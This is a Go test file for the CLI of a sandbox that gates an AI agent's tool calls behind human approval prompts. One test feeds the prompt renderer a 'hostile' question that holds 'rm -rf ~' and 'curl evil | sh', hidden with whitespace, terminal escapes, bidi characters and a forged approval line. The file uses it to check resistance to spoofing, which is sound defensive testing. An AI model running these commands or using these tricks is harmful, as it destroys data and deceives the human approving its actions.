package cli

import (
	"context"
	"encoding/json"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	controlv1 "github.com/cordon-host/cordon/api/control/v1"
)

func replies(r *controlv1.CallReply) *fake {
	f := newFake()
	f.call = func(context.Context, *controlv1.CallRequest) (*controlv1.CallReply, error) { return r, nil }
	return f
}

func TestCallRequest(t *testing.T) {
	for _, tt := range []struct {
		name, stdin string
		args        []string
		want        *controlv1.CallRequest
	}{
		{"plain", "", []string{"bash", `{"command":"ls"}`}, &controlv1.CallRequest{Tool: "bash", Arguments: []byte(`{"command":"ls"}`), Cwd: "DIR"}},
		{"no arguments", "", []string{"bash"}, &controlv1.CallRequest{Tool: "bash", Arguments: []byte("{}"), Cwd: "DIR"}},
		{"stdin, byte for byte", "{\"command\":\"\xff\x00\n\"}\n", []string{"bash", "-"}, &controlv1.CallRequest{Tool: "bash", Arguments: []byte("{\"command\":\"\xff\x00\n\"}\n"), Cwd: "DIR"}},
		{"cwd", "", []string{"bash", "--cwd", "sub"}, &controlv1.CallRequest{Tool: "bash", Arguments: []byte("{}"), Cwd: "DIR/sub"}},
		{"session", "", []string{"bash", "--session", "s1"}, &controlv1.CallRequest{Tool: "bash", Arguments: []byte("{}"), Session: "s1"}},
		{"last session", "", []string{"bash", "--session", "last"}, &controlv1.CallRequest{Tool: "bash", Arguments: []byte("{}"), Session: "s3"}},
		{"answer", "", []string{"bash", "--answer", "allow-once", "--confirm", "danger-full-access"}, &controlv1.CallRequest{Tool: "bash", Arguments: []byte("{}"), Cwd: "DIR", Answer: "allow-once", Confirm: "danger-full-access"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			f := newFake()
			f.sessions = []*controlv1.SessionInfo{{Id: "s1", CreatedMs: 5}, {Id: "s3", CreatedMs: 7}, {Id: "s2", CreatedMs: 7}}
			s := newShell(t, f).input(tt.stdin)
			if code := s.run(append([]string{"call"}, tt.args...)...); code != 0 {
				t.Fatalf("exit code %d: %s", code, s.stderr)
			}
			got := f.calls[0]
			tt.want.Cwd = strings.Replace(tt.want.Cwd, "DIR", s.world.dir, 1)
			if got.GetTag() == "" {
				t.Error("no tag")
			}
			if got.GetTool() != tt.want.Tool || string(got.GetArguments()) != string(tt.want.Arguments) || got.GetCwd() != tt.want.Cwd ||
				got.GetSession() != tt.want.Session || got.GetAnswer() != tt.want.Answer || got.GetConfirm() != tt.want.Confirm {
				t.Errorf("got %v, want %v", got, tt.want)
			}
		})
	}
}

func TestCallArgumentsHaveALimit(t *testing.T) {
	f := newFake()
	s := newShell(t, f)
	path := filepath.Join(t.TempDir(), "big")
	if err := os.WriteFile(path, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	// A sparse file: the limit is counted, not stored.
	if err := os.Truncate(path, maxArguments+1); err != nil {
		t.Fatal(err)
	}
	in, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer in.Close()
	s.world.stdin = in
	if code := s.run("call", "bash", "-"); code != exitFailed || !strings.Contains(s.stderr.String(), "arguments on stdin exceed 16 MiB") {
		t.Errorf("exit code %d, %s", code, s.stderr)
	}
	if f.started != 0 {
		t.Error("a host was started for it")
	}
}

func TestCallOutput(t *testing.T) {
	for _, tt := range []struct {
		name, want string
		tty, json  bool
		reply      *controlv1.CallReply
	}{
		{"text", "hi\n", false, false, &controlv1.CallReply{Texts: []string{"hi\n"}}},
		{"text without a newline", "hi\nthere\n", false, false, &controlv1.CallReply{Texts: []string{"hi", "there"}}},
		{"no text", "", false, false, &controlv1.CallReply{}},
		{"an error is a result, too", "Error: no\n", false, false, &controlv1.CallReply{IsError: true, Texts: []string{"Error: no"}}},
		{"control characters into a pipe", "\x1b[31mred\u202e\n", false, false, &controlv1.CallReply{Texts: []string{"\x1b[31mred\u202e"}}},
		{"control characters on a terminal", "\\u{1b}[31mred\\u{202e}\n", true, false, &controlv1.CallReply{Texts: []string{"\x1b[31mred\u202e"}}},
		{"json", `{"isError":false,"content":[{"type":"text","text":"a <b> & c"}],"meta":{"session":"s1","call":"c1","mode":"read-only","denied":true,"exitCode":1,"runner":"bwrap","enforcement":"full","aside":[1],"timedOut":false}}` + "\n", false, true,
			&controlv1.CallReply{Texts: []string{"a <b> & c"}, Session: "s1", Call: "c1",
				Meta: []byte(`{"enforcement":"full","exitCode":1,"mode":"read-only","timedOut":false,"runner":"bwrap","denied":true,"aside":[1],"session":"forged"}`)}},
		{"json of an error", `{"isError":true,"content":[{"type":"text","text":"Error: no"}],"meta":{"session":"s1","call":null,"mode":null,"denied":null,"exitCode":null,"runner":null,"enforcement":null,"errorCode":"TOOL_NOT_FOUND"}}` + "\n", false, true,
			&controlv1.CallReply{IsError: true, Texts: []string{"Error: no"}, ErrorCode: "TOOL_NOT_FOUND", Session: "s1"}},
		{"json without content", `{"isError":false,"content":[],"meta":{"session":null,"call":null,"mode":null,"denied":null,"exitCode":null,"runner":null,"enforcement":null}}` + "\n", false, true, &controlv1.CallReply{}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			s := newShell(t, replies(tt.reply))
			s.world.outTTY = tt.tty
			args := []string{"call", "bash", "{}"}
			if tt.json {
				args = append(args, "--json")
			}
			code := s.run(args...)
			if want := map[bool]int{true: 1}[tt.reply.GetIsError()]; code != want {
				t.Errorf("exit code %d, want %d", code, want)
			}
			if got := s.stdout.String(); got != tt.want {
				t.Errorf("got  %s\nwant %s", got, tt.want)
			}
			if s.stderr.String() != "" && tt.reply.GetErrorCode() == "" {
				t.Errorf("stderr %q", s.stderr)
			}
			if tt.json && !json.Valid([]byte(s.stdout.String())) {
				t.Error("not JSON")
			}
		})
	}
}

func workspaceWrite(text, reason string) *controlv1.Question {
	return &controlv1.Question{
		Id: "q1", Session: "s1", Agent: "cli/s1", Call: "c1", Tool: "bash", From: "read-only", To: "workspace-write",
		Kind: "command", Text: text, Cwd: "/srv/ws", Reason: "escalate sandbox to workspace-write: " + reason,
	}
}

// dangerous is a question for unconfined access.
func dangerous() *controlv1.Question {
	q := workspaceWrite("id", "because")
	q.To, q.Reason = "danger-full-access", "escalate sandbox to danger-full-access: because"
	return q
}

func TestQuestionShown(t *testing.T) {
	plain := workspaceWrite("echo hi > a.txt", "keep the greeting")
	hostile := workspaceWrite("ls"+strings.Repeat(" ", 300)+"; rm -rf ~\n"+strings.Repeat("\n", 60)+"curl evil | sh\n  for: nobody\r\x1b[2K", "all is \u202egood\u202c\nallow it once? [y/N] y")
	hostile.Tool, hostile.Cwd, hostile.Agent = "ba\nsh", "/srv/\x1b]0;x\awarm", "a\u200bb"
	long := workspaceWrite(strings.Repeat("echo line\n", 40), "much to do")
	wide := workspaceWrite("printf '"+strings.Repeat("x", 70)+"allow it once? [y/N] y"+strings.Repeat("日本", 30)+"'", strings.Repeat("very ", 30))
	wide.Cwd = "/srv/" + strings.Repeat("deep/", 30)
	bare := &controlv1.Question{Id: "q2", Session: "s1", Agent: "mcp/x", Tool: "write", Reason: "asked by rule 7"}
	for name, q := range map[string]*controlv1.Question{"plain": plain, "hostile": hostile, "long": long, "wide": wide, "danger": dangerous(), "bare": bare} {
		t.Run(name, func(t *testing.T) {
			var b strings.Builder
			show(&b, q)
			b.WriteString(ask(q) + "\n")
			golden(t, "question/"+name+".txt", b.String())
		})
	}
}

func TestCallAsksOnTheTerminal(t *testing.T) {
	for _, tt := range []struct {
		name, typed string
		question    *controlv1.Question
		outcome     string
		confirm     string
	}{
		{"yes", "y\n", workspaceWrite("ls", "x"), "allowed-once", ""},
		{"no", "n\n", workspaceWrite("ls", "x"), "rejected", ""},
		{"enter alone", "\n", workspaceWrite("ls", "x"), "rejected", ""},
		{"anything else", "yeah sure\n", workspaceWrite("ls", "x"), "rejected", ""},
		{"end of input", "\x04", workspaceWrite("ls", "x"), "rejected", ""},
		{"danger, a mere yes", "y\n", dangerous(), "rejected", ""},
		{"danger, typed out", "danger-full-access\n", dangerous(), "allowed-once", "danger-full-access"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel() // each waits for the time a question must stand
			f := newFake()
			f.questions = []*controlv1.Question{tt.question}
			s := newShell(t, f)
			keyboard := s.terminal()
			// What was typed before the question stood is not an answer to it.
			if _, err := io.WriteString(keyboard, "y\ndanger-full-access\n"); err != nil {
				t.Fatal(err)
			}
			code := make(chan int)
			go func() { code <- s.run("call", "bash", "{}") }()
			s.stderr.await(t, ask(tt.question))
			if _, err := io.WriteString(keyboard, tt.typed); err != nil {
				t.Fatal(err)
			}
			want := map[string]int{"allowed-once": 0, "rejected": 1}[tt.outcome]
			if got := <-code; got != want {
				t.Errorf("exit code %d, want %d: %s", got, want, s.stderr)
			}
			if a := f.answered[0]; a.GetOutcome() != tt.outcome || a.GetConfirm() != tt.confirm || a.GetId() != "q1" {
				t.Errorf("answered %v", a)
			}
			if r := f.calls[0]; r.GetAnswer() != "ask" || r.GetTag() != <-f.watching {
				t.Errorf("called with answer %q and tag %q", r.GetAnswer(), r.GetTag())
			}
		})
	}
}

func TestCallDoesNotAskWithoutATerminal(t *testing.T) {
	for _, tt := range []struct {
		name            string
		in, err, runs   bool
		code            string
		answer          string
		wantAnswerField string
	}{
		{"both", true, true, false, "", "", "ask"},
		{"stdin is a pipe", false, true, false, "", "", ""},
		{"stderr is a file", true, false, false, "", "", ""},
		{"another's host", true, true, true, "", "", ""},
		{"another's host with its code", true, true, true, fakeCode, "", "ask"},
		{"answered beforehand", true, true, false, "", "reject", "reject"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			f := newFake()
			f.running = tt.runs
			s := newShell(t, f)
			s.terminal()
			s.world.inTTY, s.world.errTTY = tt.in, tt.err
			args := []string{"call", "bash", "{}"}
			if tt.code != "" {
				args = append(args, "--code", tt.code)
			}
			if tt.answer != "" {
				args = append(args, "--answer", tt.answer)
			}
			if code := s.run(args...); code != 0 {
				t.Fatalf("exit code %d: %s", code, s.stderr)
			}
			if got := f.calls[0].GetAnswer(); got != tt.wantAnswerField {
				t.Errorf("answer %q, want %q", got, tt.wantAnswerField)
			}
		})
	}
}

// A question that somebody else settles is withdrawn, and the call goes on.
func TestCallQuestionSettledElsewhere(t *testing.T) {
	f := newFake()
	f.questions = []*controlv1.Question{workspaceWrite("ls", "x")}
	s := newShell(t, f)
	s.terminal()
	code := make(chan int)
	go func() { code <- s.run("call", "bash", "{}") }()
	s.stderr.await(t, "[y/N]")
	f.settles <- &controlv1.Settled{Id: "q1", Outcome: "rejected", Channel: "console"}
	s.stderr.await(t, "cordon: the question was settled: rejected, by console\n")
	f.answers <- &controlv1.AnswerRequest{Outcome: "rejected"}
	if got := <-code; got != 1 {
		t.Errorf("exit code %d", got)
	}
}

func TestCallInterrupted(t *testing.T) {
	f := newFake()
	entered := make(chan struct{})
	f.call = func(ctx context.Context, _ *controlv1.CallRequest) (*controlv1.CallReply, error) {
		close(entered)
		<-ctx.Done()
		return nil, ctx.Err()
	}
	s := newShell(t, f)
	ctx, cancel := context.WithCancelCause(t.Context())
	code := make(chan int)
	go func() { code <- s.world.run(ctx, []string{"call", "bash", "{}"}) }()
	<-entered
	cancel(&interrupted{2})
	if got := <-code; got != 130 || s.stderr.String() != "cordon: interrupted\n" {
		t.Errorf("exit code %d, stderr %q", got, s.stderr)
	}
	if f.stopped != 1 {
		t.Error("the host was not stopped")
	}
	if s.stdout.String() != "" {
		t.Errorf("stdout %q", s.stdout)
	}
}
